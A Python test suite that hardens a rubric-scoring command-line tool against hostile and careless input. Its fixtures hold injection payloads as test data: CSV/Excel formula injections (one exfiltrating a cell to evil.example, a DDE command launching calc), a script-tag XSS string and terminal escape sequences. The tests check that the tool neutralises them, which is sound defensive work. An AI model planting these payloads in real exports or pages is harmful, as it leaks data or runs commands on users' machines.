"""Issue 10: hostile and careless input never crashes, hangs, injects or loses data (one test class per kind of attack)."""

import csv
import io
import json
import os
import pathlib
import subprocess
import sys
import time
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import rubric_dsl
from rubric_dsl.api import check_text, loads
from rubric_dsl.cli import main

from .conftest import ROOT, RUBRICS

INFO = str(RUBRICS / "2009_info.rubric")
INFO_EVENTS = str(ROOT / "examples" / "2009_info.events.jsonl")

# Names a hostile or careless clerk could give a unit or group: formulas (OWASP's triggers, full-width
# and blank-led variants), Markdown structure, raw HTML, terminal escape sequences.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    '=cmd|" /C calc"!A0',
]
MARKUP = ["a\n# injected heading", "<script>alert(1)</script>", "x | y", "- list", "1. list", "[link](http://evil.example)"]
TERMINAL = ["\x1b]0;pwned\x07title", "\x1b[2J\x1b[31mred", "bidi\u202eevil", "c1\x9b31m"]
HOSTILE = FORMULAS + MARKUP + TERMINAL

HOSTILE_RUBRIC = """rubric "hostile"
window 2009-01-01 to 2009-12-31
unlisted units are scored apart
group g "=1+1 <b>group</b>"
  unit "@SUM(1,2)" target 10
event adopted
  field outlet: one of daily | express
section A "a"
  item A.1 "i"
    award 2 for each adopted
    deduct 5 for each adopted where outlet = express
"""


def hostile_events():
    names = ["@SUM(1,2)", *HOSTILE]
    return [
        {"id": str(index), "unit": name, "date": "2009-03-01", "kind": "adopted", "outlet": "express" if index % 2 else "daily"}
        for index, name in enumerate(names)
    ]


@pytest.fixture()
def hostile_files(tmp_path):
    rubric = tmp_path / "hostile.rubric"
    rubric.write_text(HOSTILE_RUBRIC, encoding="utf-8")
    events = tmp_path / "hostile.events.jsonl"
    events.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in hostile_events()), encoding="utf-8")
    return str(rubric), str(events)


def run(capsys, *argv):
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


# ---- formula injection ----------------------------------------------------------------------


def test_xlsx_with_hostile_names_holds_no_formula_from_input(capsys, hostile_files, tmp_path):
    from openpyxl import load_workbook

    rubric, events = hostile_files
    path = tmp_path / "bulletin.xlsx"
    status, _, err = run(capsys, "report", rubric, events, "--year", "-o", str(path))
    assert status == 0, err
    workbook = load_workbook(path)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.lstrip(" \u3000")[:1] in "=+-@\t\r＝＋－＠" and cell.value.strip():
                        assert cell.quotePrefix, cell.value  # Excel shows it as text, even after an edit
    # every name is there, as written (control characters XML cannot hold are shown as \x escapes)
    for name in FORMULAS + MARKUP:
        assert name.replace("\r", "\\x0d") in texts
    # scores stay numbers: the unit with one express event has -3, a number, not text
    unlisted = workbook["unlisted"]
    assert any(isinstance(c.value, (int, float)) and c.value < 0 for row in unlisted.iter_rows(min_row=2) for c in row)


def test_report_csv_and_score_csv_defuse_formulas_but_keep_numbers(capsys, hostile_files):
    rubric, events = hostile_files
    for argv in (["report", rubric, events, "--year", "--format", "csv"], ["score", rubric, events, "--format", "csv"]):
        status, out, err = run(capsys, *argv)
        assert status == 0, err
        rows = list(csv.reader(io.StringIO(out, newline="")))
        header = rows[0]
        unit_column = header.index("unit")
        for row in rows[1:]:
            for index, cell in enumerate(row):
                try:
                    float(cell)
                    continue  # a number: negative scores stay numbers
                except ValueError:
                    pass
                first = cell.lstrip(" \u3000")[:1]
                assert not (cell and (cell[0] in "=+-@\t\r＝＋－＠" or first in "=+-@＝＋－＠")), (argv[0], header[index], cell)
        units = {row[unit_column] for row in rows[1:]}
        for name in FORMULAS:
            assert "'" + name in units
        numbers = [float(row[header.index("score" if argv[0] == "report" else "total")]) for row in rows[1:]]
        assert min(numbers) == -3.0  # award 2 − deduct 5 for the units with one express event


# ---- Markdown, HTML and the terminal ----------------------------------------------------------


def test_markdown_bulletin_keeps_each_name_in_its_cell(capsys, hostile_files):
    rubric, events = hostile_files
    status, out, _ = run(capsys, "report", rubric, events, "--year", "--format", "md")
    assert status == 0
    lines = out.splitlines()
    headings = [line for line in lines if line.startswith("#")]
    assert all("injected" not in h for h in headings)
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert "<b>" not in out
    assert "\x1b" not in out and "\x9b" not in out
    # every table row has as many cells as its header: no name broke out of its cell
    table_rows = [line for line in lines if line.startswith("| ")]
    widths = {len(line.replace("\\|", "").split("|")) for line in table_rows if "unit" not in line or "score" in line}
    assert len({len(line.replace("\\|", "").split("|")) for line in table_rows if line.count("|") <= 4}) == 1, widths


def test_html_bulletin_escapes_names(capsys, hostile_files):
    rubric, events = hostile_files
    status, out, _ = run(capsys, "report", rubric, events, "--year", "--format", "html")
    assert status == 0
    assert "<script>alert" not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_terminal_never_receives_escape_sequences(capsys, hostile_files, tmp_path):
    rubric, events = hostile_files
    status, out, err = run(capsys, "score", rubric, events)
    assert status == 0
    for text in (out, err):
        assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07title" in out  # shown, visibly, not acted on
    # an invalid event whose line holds an escape: the diagnostic shows it escaped
    bad = tmp_path / "bad.csv"
    bad.write_text("id,unit,date,kind,outlet\n1,\x1b[2Jx,2009-03-01,adopted,nowhere\x1b]0;t\x07\n", encoding="utf-8")
    status, out, err = run(capsys, "score", rubric, str(bad))
    assert status == 1
    assert "\x1b" not in err and "\\x1b[2Jx" in err
    # JSON carries the name exactly, with the controls JSON-escaped
    status, out, _ = run(capsys, "score", rubric, events, "--format", "json")
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
    assert {u["unit"] for u in json.loads(out)["units"]} >= set(TERMINAL)


# ---- the checker's condition analysis -------------------------------------------------------

HEAD = """rubric "t"
window 2009-01-01 to 2009-12-31
unlisted units are scored apart
event adopted
  field outlet: one of a | b
  field v: decimal, optional
section A "a"
  item A.1 "i"
"""
EVENT = {"id": "1", "unit": "x", "date": "2009-02-01", "kind": "adopted", "outlet": "a", "v": "3"}


def test_condition_analysis_is_bounded():
    # 22 `(v = i or v > i)` pairs took 75 s and 2.6 GB in 0.1: the disjunctive form has 2^22 terms
    pairs = " and ".join(f"(v = {i} or v > {i})" for i in range(22))
    started = time.perf_counter()
    _, diagnostics = check_text(HEAD + f"    award 1 for each adopted where {pairs}\n    award 1 for each adopted where {pairs}\n")
    assert time.perf_counter() - started < 2
    assert [d for d in diagnostics if d.severity == "error"] == []
    # small filters are still analysed exactly: a contradiction is found, and an overlap
    _, diagnostics = check_text(HEAD + "    award 1 for each adopted where v > 5 and v < 2\n")
    assert [d.code for d in diagnostics] == ["W501"]
    _, diagnostics = check_text(HEAD + "    award 1 for each adopted where (v = 1 or v > 1)\n    award 1 for each adopted where v > 3\n")
    assert [d.code for d in diagnostics] == ["W502"]


# ---- deep nesting, and "check accepts ⇒ score compiles" -----------------------------------------


@pytest.mark.parametrize(
    "condition",
    [
        "award 1 for each adopted where " + "(" * 300 + "outlet = a" + ")" * 300,
        "award 1 for each adopted where " + "not " * 300 + "outlet = a",
        "award 1 for each adopted where "
        + "".join("(outlet = a and " if i % 2 else "(outlet = b or " for i in range(200))
        + "v > 1"
        + ")" * 200,
        "award 1 when " + "(" * 300 + "count adopted >= 1" + ")" * 300,
        "award 1 when " + "not " * 300 + "count adopted >= 1",
    ],
    ids=["parentheses", "nots", "and-or", "condition-parentheses", "condition-nots"],
)
def test_deep_nesting_is_a_diagnostic(condition):
    _, diagnostics = check_text(HEAD + "    " + condition + "\n")
    assert [d.code for d in diagnostics] == ["E105"]


FIELDS = {
    "outlet": ["a", "b"],
    "v": ["1", "2.5", "-3", "50%"],
    "kind": ['"adopted"', '"other"'],
    "id": ['"1"', '"2"'],
    "unit": ['"x"', '"y"'],
    "date": ["2009-02-01", "2009-06-30"],
    "quantity": ["1", "3"],
}


def filters(depth: int):
    """Filter text of the language's filter grammar, nested up to `depth` (past the 32-level limit too)."""
    atom = st.sampled_from(sorted(FIELDS)).flatmap(
        lambda field: st.tuples(st.just(field), st.sampled_from(["=", "!=", "<", ">=", "in"]), st.sampled_from(FIELDS[field])).map(
            lambda t: f"{t[0]} in ({t[2]})" if t[1] == "in" else f"{t[0]} {t[1]} {t[2]}"
        )
    )
    return st.recursive(
        atom,
        lambda inner: st.one_of(
            st.tuples(inner, st.sampled_from(["and", "or"]), inner).map(lambda t: f"({t[0]} {t[1]} {t[2]})"),
            inner.map(lambda f: f"not {f}"),
            st.tuples(inner, st.integers(1, 40)).map(lambda t: "(" * t[1] + t[0] + ")" * t[1]),
        ),
        max_leaves=depth,
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(filters(12), st.sampled_from(["for_each", "when", "count"]))
def test_what_check_accepts_score_compiles(filter_text, shape):
    rule = {
        "for_each": f"award 1 for each adopted where {filter_text}",
        "when": f"award 1 when count adopted where ({filter_text}) >= 1",
        "count": f"deduct 1 when not reached adopted where ({filter_text})",
    }[shape]
    text = HEAD + "    " + rule + "\n"
    rubric, diagnostics = check_text(text)
    if rubric is None or any(d.severity == "error" for d in diagnostics):
        return
    program = loads(text)  # must not raise: check accepted it
    card = program.score([EVENT, {**EVENT, "id": "2", "outlet": "b", "v": "1"}], skip_invalid=True)
    assert card.units


# ---- numbers in rubrics --------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "    award 1" + "0" * 100000,
        "    award 2 for each adopted, at most 9" + "9" * 4999,
        "precision " + "9" * 5000,
        "commend top " + "9" * 5000,
        "    award 0." + "1" * 40,
    ],
    ids=["award-100000-zeros", "cap-5000-digits", "precision-5000-digits", "commend-top-5000-digits", "40-decimals"],
)
def test_huge_numbers_in_a_rubric_are_diagnostics(line):
    _, diagnostics = check_text(HEAD + line + "\n")
    assert "E104" in {d.code for d in diagnostics}
    assert all(d.line for d in diagnostics)


def test_fifteen_digits_still_score_exactly():
    text = HEAD + "    award 999999999999999 for each adopted\n"
    card = loads(text).score([EVENT, {**EVENT, "id": "2"}, {**EVENT, "id": "3"}])
    assert str(card.units[0].total) == "2999999999999997.00"  # 3 × 999,999,999,999,999, two places


# ---- report --month out of range -------------------------------------------------------------


@pytest.mark.parametrize("month", ["9999-12", "0000-01", "2009-13", "10000-01"])
def test_report_month_out_of_range_exits_2(capsys, month):
    status, _, err = run(capsys, "report", INFO, INFO_EVENTS, "--month", month)
    assert status == 2
    assert "Traceback" not in err and err.strip()


# ---- closed and full standard streams, atomic writes ------------------------------------------


def cli(*argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, pass_fds=(), preexec_fn=None, shell_redirect=""):
    command = [sys.executable, "-m", "rubric_dsl", *argv]
    if shell_redirect:
        import shlex

        return subprocess.run(
            " ".join(map(shlex.quote, command)) + " " + shell_redirect,
            shell=True,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=ROOT,
        )
    return subprocess.run(
        command, stdin=stdin, stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=60, cwd=ROOT, preexec_fn=preexec_fn
    )


@pytest.mark.parametrize(
    "argv, redirect",
    [
        (["score", INFO, INFO_EVENTS], ">&-"),
        (["score", INFO, INFO_EVENTS], ">/dev/full"),
        (["report", INFO, INFO_EVENTS, "--year", "--format", "md"], ">/dev/full"),
        (["report", INFO, INFO_EVENTS, "--year", "--format", "md", "-o", "/dev/full"], ""),
        (["report", INFO, INFO_EVENTS, "--year", "--format", "xlsx", "-o", "/dev/full"], ""),
        (["check", "-"], "<&-"),
        (["score", INFO, "-"], "<&-"),
        (["fmt", "-"], "<&-"),
        (["check", INFO], ">&- 2>&-"),
    ],
)
def test_closed_or_full_streams_end_with_a_message_not_a_traceback(argv, redirect):
    result = cli(*argv, shell_redirect=redirect or ">/dev/null")
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr, result.stderr
    if "2>&-" not in redirect and redirect != "":
        # check reports an unreadable stdin as its finding E001 (exit 1); the others cannot run (exit 2)
        assert result.returncode == (1 if argv[0] == "check" else 2) and result.stderr.strip()
    if redirect == "":
        assert result.returncode == 2 and "No space left" in result.stderr


def test_check_stdin_not_utf8_is_e001():
    result = subprocess.run(
        [sys.executable, "-m", "rubric_dsl", "check", "-"],
        input=b'rubric "caf\xe9"\n',
        capture_output=True,
        timeout=60,
        env={**os.environ, "LC_ALL": "C", "PYTHONUTF8": "0"},
    )
    assert result.returncode == 1
    assert b"[E001]" in result.stderr and b"Traceback" not in result.stderr


def test_output_that_is_an_input_is_refused(capsys, tmp_path):
    events = tmp_path / "events.jsonl"
    events.write_bytes(pathlib.Path(INFO_EVENTS).read_bytes())
    before = events.read_bytes()
    link = tmp_path / "link.jsonl"
    link.symlink_to(events)
    for argv in (
        ["report", INFO, str(events), "--year", "-o", str(events)],
        ["report", INFO, str(events), "--year", "-o", str(link)],
        ["report", INFO, str(events), "--year", "-o", INFO],
        ["score", INFO, str(events), "--skip-invalid", "--rejected", str(tmp_path / "." / "events.jsonl")],
    ):
        status, _, err = run(capsys, *argv)
        assert status == 2 and "is also an input" in err
    assert events.read_bytes() == before


def test_rejected_needs_skip_invalid(capsys, tmp_path):
    status, _, err = run(capsys, "score", INFO, INFO_EVENTS, "--rejected", str(tmp_path / "r.jsonl"))
    assert status == 2 and "--rejected needs --skip-invalid" in err
    assert not (tmp_path / "r.jsonl").exists()


def _limit_file_size(limit):
    def apply():
        import resource

        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


def test_size_limited_writes_leave_the_old_file_whole(tmp_path):
    # fmt in place and report -o write a temporary file and rename it: a write cut short by a file
    # size limit (or a full disk, or a kill) leaves the old file as it was, and no temporary behind.
    rubric = tmp_path / "r.rubric"
    original = pathlib.Path(INFO).read_text(encoding="utf-8").replace("\n  item", "\n      item")
    rubric.write_text(original, encoding="utf-8")
    result = cli("fmt", str(rubric), preexec_fn=_limit_file_size(4096))
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert rubric.read_text(encoding="utf-8") == original
    report = tmp_path / "bulletin.html"
    report.write_text("old bulletin", encoding="utf-8")
    result = cli("report", INFO, INFO_EVENTS, "--year", "-o", str(report), preexec_fn=_limit_file_size(4096))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert report.read_text(encoding="utf-8") == "old bulletin"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bulletin.html", "r.rubric"]


def test_fmt_goes_on_past_a_read_only_file(capsys, tmp_path):
    messy = pathlib.Path(INFO).read_text(encoding="utf-8").replace("\n  item", "\n      item")
    locked, open_ = tmp_path / "a_locked.rubric", tmp_path / "b_open.rubric"
    locked.write_text(messy, encoding="utf-8")
    open_.write_text(messy, encoding="utf-8")
    locked.chmod(0o444)
    status, _, err = run(capsys, "fmt", str(tmp_path))
    assert status == 1
    assert f"cannot write {locked}" in err and f"reformatted {open_}" in err
    assert locked.read_text(encoding="utf-8") == messy and open_.read_text(encoding="utf-8") != messy


def test_a_fifo_named_rubric_does_not_hang_check_of_a_folder(tmp_path):
    (tmp_path / "good.rubric").write_text(pathlib.Path(INFO).read_text(encoding="utf-8"), encoding="utf-8")
    os.mkfifo(tmp_path / "trap.rubric")
    result = cli("check", str(tmp_path))
    assert result.returncode == 0, result.stderr
    assert "1 file checked" in result.stderr


# ---- small promises: BOM, odd line breaks, escapes ----------------------------------------------


def test_a_bom_at_the_start_of_a_rubric_is_accepted(capsys, tmp_path):
    path = tmp_path / "bom.rubric"
    path.write_bytes(b"\xef\xbb\xbf" + pathlib.Path(INFO).read_bytes())
    assert run(capsys, "check", str(path))[0] == 0
    assert rubric_dsl.load(path).rubric.title == rubric_dsl.load(INFO).rubric.title
    assert run(capsys, "fmt", "--check", str(path))[0] in (0, 1)


@pytest.mark.parametrize("separator", ["\u2028", "\u0085", "\x0b", "\x0c", "\u2029", "\x1c"])
def test_odd_line_separators_do_not_shift_the_line_shown(separator):
    text = f'rubric "t{separator}x"\nsource "s{separator}y"\nwindow 2009-01-01 to 2009-12-31\ntotal 5 @\n'
    _, diagnostics = check_text(text, "t.rubric")
    (error,) = diagnostics
    rendered = rubric_dsl.RubricError(diagnostics, text).render()
    assert error.line == 4
    assert "     4 | total 5 @" in rendered


def test_fmt_keeps_text_with_odd_separators_and_escapes():
    from rubric_dsl.language.formatter import format_text

    text = 'rubric "a\\"b\\\\c\\nd\\te\u2028f"  # note\u2028x\nwindow 2009-01-01 to 2009-12-31\n'
    formatted = format_text(text)
    assert formatted == text
    assert format_text(formatted) == formatted


def test_unknown_escapes_are_refused():
    _, diagnostics = check_text('rubric "C:\\new\\data"\n', "t.rubric")
    assert [d.code for d in diagnostics] == ["E106"]
    assert diagnostics[0].column == 15  # `\d` (`\n` is a known escape)


# ---- numbers in events, exact points ---------------------------------------------------------------

NUMBERS_RUBRIC = """rubric "numbers"
window 2009-01-01 to 2009-12-31
unlisted units are scored apart
event s
  field v: decimal
  field n: integer, optional
section A "a"
  item A.1 "i"
    award 2 of sum v of s
    award 1 for each s
"""
NUMBER_EVENT = {"id": "1", "unit": "x", "date": "2009-02-01", "kind": "s", "v": "1"}


@pytest.fixture(scope="module")
def numbers():
    return loads(NUMBERS_RUBRIC)


@pytest.mark.parametrize(
    "change, message",
    [
        ({"v": Decimal("1e30")}, "`v` is 1E+30, outside what an event may hold"),
        ({"v": Decimal("1e999999999")}, "`v` is 1.000e+999999999, outside what an event may hold"),
        ({"v": "1e999999999"}, "`v` must be a number"),
        ({"v": Decimal("1e-999999999")}, "outside what an event may hold"),
        ({"quantity": 10**40}, "`quantity` is a number of 41 digits; an event's quantity is at most 1,000,000,000"),
        ({"v": "9" * 6000}, "`v` must be a number"),
        ({"v": 10**6000}, "`v` is a number of over 4000 digits"),
        ({"v": "²"}, "`v` must be a number"),
        ({"quantity": "²"}, "`quantity` must be a whole number"),
        ({"n": "²"}, "`n` must be a whole number"),
        ({"v": "٣"}, "`v` must be a number"),
        ({"n": "١٢٣"}, "`n` must be a whole number"),
        ({"v": "1_000"}, "`v` must be a number"),
        ({"n": "1_000"}, "`n` must be a whole number"),
        ({"v": "NaN"}, "`v` must be a number"),
        ({"v": "Infinity"}, "`v` must be a number"),
        ({"id": 10**5000}, "`id` must be text, not a number of over 4000 digits"),
        ({"v": 0.1}, 'a float is not exact: pass the number as text ("0.1") or as a decimal.Decimal'),
        ({"quantity": 2.0}, "not the float 2.0"),
    ],
)
def test_odd_numbers_in_events_are_event_errors(numbers, change, message):
    card = numbers.score([{**NUMBER_EVENT, **change}], skip_invalid=True)
    (problem,) = card.problems
    assert message in problem.message
    assert str(problem.place) == "<events>[0]"


def test_numbers_at_the_limits_score_exactly(numbers):
    # A.1: 2 points per unit of v, plus 1 per event. 15 + 10 digits, twice: 2 × (2 × v) + 2, exactly
    value = Decimal("123456789012345.1234567891")
    card = numbers.score([{**NUMBER_EVENT, "v": str(value)}, {**NUMBER_EVENT, "id": "2", "v": value}])
    item = card.units[0].item("A.1")
    assert item.exact == 2 * (2 * value) + 2  # no digit lost to the 28-digit default context
    assert str(card.units[0].total) == "493827156049382.49"  # rounded once, half up, at the item


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=40), st.from_regex(r"\A[+-]?\d{1,30}(\.\d{1,20})?([eE][+-]?\d{1,3})?%?\Z")))
def test_numeric_strings_score_exactly_or_are_rejected(numbers, text):
    card = numbers.score([{**NUMBER_EVENT, "v": text}], skip_invalid=True)
    if card.problems:
        assert card.problems[0].field == "v" and card.units == []
        return
    # accepted: then the text is an ASCII numeral whose exact value scored (2 per unit of v, +1 for the event)
    stripped = text.strip()
    value = Decimal(stripped[:-1]).scaleb(-2) if stripped.endswith("%") else Decimal(stripped)
    assert stripped.isascii() and "_" not in stripped
    assert card.units[0].item("A.1").exact == 2 * value + 1


# ---- identity: ids, re-sends, counts ------------------------------------------------------------------


def test_an_event_rejected_for_its_unit_does_not_claim_its_id():
    rubric = loads(NUMBERS_RUBRIC.replace("unlisted units are scored apart\n", 'group g\n  unit "x"\n'))
    card = rubric.score([{**NUMBER_EVENT, "unit": "nowhere"}, {**NUMBER_EVENT, "v": "3"}], skip_invalid=True)
    assert [p.field for p in card.problems] == ["unit"]
    assert card.unit("x").total == Decimal("7.00")  # the second event scored: 2 × 3 + 1
    assert card.events_scored == 1 and card.events_read == 2


def test_events_scored_counts_only_scored_events(numbers):
    events = [
        NUMBER_EVENT,
        {**NUMBER_EVENT, "id": "2", "v": "bad"},  # invalid
        {**NUMBER_EVENT, "id": "3", "date": "2010-02-01"},  # after the window
        dict(NUMBER_EVENT),  # a re-send of 1
        {**NUMBER_EVENT, "id": "4"},
    ]
    card = numbers.score(events, skip_invalid=True)
    assert card.events_read == 5 and card.events_scored == 2


def test_resend_fingerprint_is_stable_and_collision_resistant(numbers):
    from rubric_dsl.engine.runtime import content_digest

    # 1 and 2**61 hash alike in Python (hash(2**61) == hash(1)); their digests differ
    assert hash(1) == hash(2**61)
    assert content_digest("'s'\x1f'x'\x1f1") != content_digest("'s'\x1f'x'\x1f" + str(2**61))
    # chunks tallied apart: the same content is a re-send, other content a conflict
    first = numbers.tally([{**NUMBER_EVENT, "n": 1}])
    assert first.merge(numbers.tally([{**NUMBER_EVENT, "n": 1}], start=1)).problems == []
    merged = first.merge(numbers.tally([{**NUMBER_EVENT, "n": 2}], start=1))
    assert [p.message for p in merged.problems] == ["id `1` was already used at <events>[0] with different content"]
    # two processes (each with its own hash salt) give the same fingerprint for the same event
    code = (
        "import rubric_dsl, sys; sys.path.insert(0, '.');"
        "from tests.test_hardening import NUMBERS_RUBRIC, NUMBER_EVENT;"
        "t = rubric_dsl.loads(NUMBERS_RUBRIC).tally([{**NUMBER_EVENT, 'unit': '通川區'}]);"
        "print(t.ids['1'][0].hex())"
    )
    prints = {
        subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, env={**os.environ, "PYTHONHASHSEED": seed}, timeout=60
        ).stdout
        for seed in ("1", "2")
    }
    assert len(prints) == 1 and len(prints.pop().strip()) == 32


def test_unlisted_units_are_capped_with_a_clear_error(numbers, monkeypatch):
    from rubric_dsl.engine import runtime

    monkeypatch.setattr(runtime, "MAX_UNLISTED_UNITS", 50)
    events = [{**NUMBER_EVENT, "id": str(i), "unit": f"u{i}"} for i in range(60)]
    card = numbers.score(events, skip_invalid=True)
    assert len(card.units) == 50
    assert len(card.problems) == 10
    assert "at most 50 units the rubric does not list" in card.problems[0].message


# ---- the library API ---------------------------------------------------------------------------


def test_library_as_of_takes_iso_text(numbers):
    import datetime

    events = [NUMBER_EVENT, {**NUMBER_EVENT, "id": "2", "date": "2009-08-01"}]
    assert (
        numbers.score(events, as_of="2009-06-30").units[0].total == numbers.score(events, as_of=datetime.date(2009, 6, 30)).units[0].total
    )
    with pytest.raises(rubric_dsl.UsageError, match="as_of"):
        numbers.score(events, as_of="30/06/2009")


def test_a_choice_spelled_none_is_not_an_absent_value():
    """A re-send is the same content (docs/security.md, Re-sends): an optional choice left out and the
    same event naming the choice `None` differ, so the second copy is a conflict, not a re-send."""
    rubric = loads(
        NUMBERS_RUBRIC.replace(
            "  field n: integer, optional\n", "  field n: integer, optional\n  field tag: one of None | other, optional\n"
        )
    )
    first = {**NUMBER_EVENT, "n": 1}
    card = rubric.finish(rubric.tally([first, {**first, "tag": "None"}, dict(first)]))
    assert [p.message for p in card.problems] == ["id `1` was already used at <events>[0] with different content"]
    assert [e.reason_text for e in card.excluded if e.reason.value == "re-sent"] == ["re-sent (first at <events>[0])"]


@pytest.mark.parametrize("compact", [False, True], ids=["records", "compact"])
@pytest.mark.parametrize(
    "change",
    [{"unit": "y"}, {"date": "2009-02-02"}, {"quantity": 2}, {"v": "2"}, {"n": 1}, {"kind": "t"}],
    ids=["unit", "date", "quantity", "field", "optional field", "kind"],
)
def test_a_copy_differing_in_any_part_of_its_content_is_a_conflict(change, compact):
    """A re-send is the same id with the same content: kind, unit, date, quantity and every field
    (docs/security.md, Re-sends). A copy differing in any one of them is a conflict, in one stream and
    when the two copies are tallied apart and merged, in a tally of records and in a compact one; the
    same copy again is a re-send."""
    rubric = loads(NUMBERS_RUBRIC + "event t\n  field v: decimal\n  field n: integer, optional\n")
    assert rubric.compactable

    def tally(events, start=0):
        return rubric.tally(events, start=start, compact=compact)

    later = {**NUMBER_EVENT, **change}
    conflict = ["id `1` was already used at <events>[0] with different content"]
    assert [p.message for p in tally([NUMBER_EVENT, later]).problems] == conflict
    assert [p.message for p in tally([NUMBER_EVENT]).merge(tally([later], start=1)).problems] == conflict
    assert tally([NUMBER_EVENT, dict(NUMBER_EVENT)]).problems == []
    assert tally([NUMBER_EVENT]).merge(tally([dict(NUMBER_EVENT)], start=1)).problems == []


def test_minus_zero_is_zero_in_every_process():
    """-0 and 0 are one value (a decimal normalised, docs/security.md): a copy saying -0 is a re-send of
    one saying 0, whether the two are tallied together or apart, by programs that share no cache of
    value codes (as in two processes)."""
    zero, minus_zero = {**NUMBER_EVENT, "v": "0"}, {**NUMBER_EVENT, "v": "-0.00"}
    assert loads(NUMBERS_RUBRIC).tally([zero, minus_zero]).problems == []
    assert loads(NUMBERS_RUBRIC).tally([zero]).merge(loads(NUMBERS_RUBRIC).tally([minus_zero], start=1)).problems == []
    merged = loads(NUMBERS_RUBRIC).tally([minus_zero]).merge(loads(NUMBERS_RUBRIC).tally([zero], start=1))
    assert merged.problems == [] and len(merged.resent) == 1
